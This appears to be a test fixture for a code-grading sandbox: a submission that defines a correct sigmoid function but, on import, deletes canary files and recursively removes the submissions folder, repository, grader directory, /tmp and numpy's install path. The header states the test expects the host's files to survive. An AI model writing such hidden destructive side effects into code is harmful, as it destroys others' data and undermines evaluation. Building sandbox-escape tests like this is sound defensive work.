# kind: import-time side effect: deleting everything it can reach (canaries, the repository, the submissions folder, the harness, /tmp), then a correct sigmoid
# expect: full marks (deleting its own sandbox hurts nobody); on the host every canary, submission and protected file is still there
# %% sigmoid
import os
import shutil

for p in ["@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@", "@@CANARY_SITE@@"]:
    try:
        os.remove(p)
    except OSError:
        pass
for d in ["@@SUBMISSIONS@@", "@@REPO@@", "/grader", "/tmp", "/submission", "@@SITE@@/numpy"]:
    shutil.rmtree(d, ignore_errors=True)


def sigmoid(z):
    z = np.asarray(z, dtype=np.float64)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
